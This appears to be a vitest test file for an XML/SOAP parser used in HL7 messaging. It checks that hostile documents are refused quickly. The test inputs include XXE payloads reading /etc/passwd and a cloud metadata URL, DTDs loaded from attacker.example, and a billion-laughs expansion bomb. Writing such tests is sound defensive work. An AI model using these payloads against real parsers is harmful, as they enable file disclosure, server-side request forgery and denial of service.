import { describe, expect, it } from 'vitest';
import { ProblemError } from '@schakel/contracts';
import { el, toXml } from '../../src/xml/build.js';
import { parseXml } from '../../src/xml/parse.js';
import { parseEnvelope } from '../../src/soap/envelope.js';

const refusal = (f: () => unknown) => {
  try {
    f();
  } catch (e) {
    if (e instanceof ProblemError) return e.problem;
    throw e;
  }
  throw new Error('expected a refusal');
};

/** Refused within `ms`, with a VALIDATIEFOUT problem. */
function expectQuickRefusal(input: string, ms = 100) {
  const start = performance.now();
  const p = refusal(() => parseEnvelope(input));
  const took = performance.now() - start;
  expect(p.hl7).toBe('VALIDATIEFOUT');
  expect(took).toBeLessThan(ms);
  return p;
}

const envelope = (body: string, prolog = '') =>
  `<?xml version="1.0"?>${prolog}<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope" xmlns:wsa="http://www.w3.org/2005/08/addressing"><soap:Header><wsa:Action>urn:hl7-org:v3/QURX_IN990011NL</wsa:Action><wsa:MessageID>urn:uuid:1</wsa:MessageID></soap:Header><soap:Body>${body}</soap:Body></soap:Envelope>`;

describe('the XML parser', () => {
  it('refuses an external entity (XXE) in under 100 ms, without fetching or reading anything', () => {
    const p = expectQuickRefusal(
      envelope(
        '<x xmlns="urn:hl7-org:v3">&xxe;</x>',
        '<!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
      ),
    );
    expect(p).toMatchObject({ code: 'VALIDATION_ERROR', field: 'xml' });
    expect(p.detail).toMatch(/DTD/);
    expectQuickRefusal(
      envelope(
        '<x xmlns="urn:hl7-org:v3">&xxe;</x>',
        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
      ),
    );
    expectQuickRefusal(
      envelope('<x xmlns="urn:hl7-org:v3"/>', '<!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd">'),
    );
    expectQuickRefusal(
      envelope(
        '<x xmlns="urn:hl7-org:v3"/>',
        '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>',
      ),
    );
  });

  it('refuses a billion-laughs document in under 100 ms, without expanding it', () => {
    const levels = Array.from({ length: 10 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('');
    expectQuickRefusal(
      envelope('<x xmlns="urn:hl7-org:v3">&lol10;</x>', `<!DOCTYPE lolz [<!ENTITY lol0 "lol">${levels}]>`),
    );
  });

  it('refuses a DOCTYPE in any spelling, and an entity it does not know', () => {
    expectQuickRefusal(envelope('<x xmlns="urn:hl7-org:v3"/>', '<!doctype x>'));
    expect(refusal(() => parseXml('<x>&unknown;</x>'))).toMatchObject({
      code: 'VALIDATION_ERROR',
      hl7: 'VALIDATIEFOUT',
    });
  });

  it('refuses what is not well-formed or not namespace-well-formed', () => {
    for (const bad of ['<a><b></a>', '<a>', 'not xml', '<p:a/>', '<a x="1" x="2"/>', '']) {
      expect(refusal(() => parseXml(bad))).toMatchObject({ code: 'VALIDATION_ERROR', hl7: 'VALIDATIEFOUT' });
    }
  });

  it('refuses a document over the size limit before parsing, and trees too deep or too large', () => {
    const big = `<a>${'x'.repeat(2 * 1024 * 1024)}</a>`;
    const start = performance.now();
    expect(refusal(() => parseXml(big))).toMatchObject({ code: 'BODY_TOO_LARGE', hl7: 'VALIDATIEFOUT' });
    expect(performance.now() - start).toBeLessThan(100);
    expect(refusal(() => parseXml(`${'<a>'.repeat(200)}${'</a>'.repeat(200)}`)).detail).toMatch(/deeper/);
    expect(refusal(() => parseXml(`<a>${'<b/>'.repeat(50)}</a>`, { maxElements: 10 })).detail).toMatch(/more than 10/);
  });

  it('reads text exactly as it was written: escaping, carriage returns and characters XML cannot carry', () => {
    const text = 'a < b & "c" > d\r\ne\tf \u0001 \uD83D\uDE00';
    const doc = parseXml(toXml(el('x', { v: text }, text)));
    expect(doc.documentElement!.getAttribute('v')).toBe(text.replace('\u0001', '\uFFFD'));
    expect(doc.documentElement!.textContent).toBe(text.replace('\u0001', '\uFFFD'));
  });
});
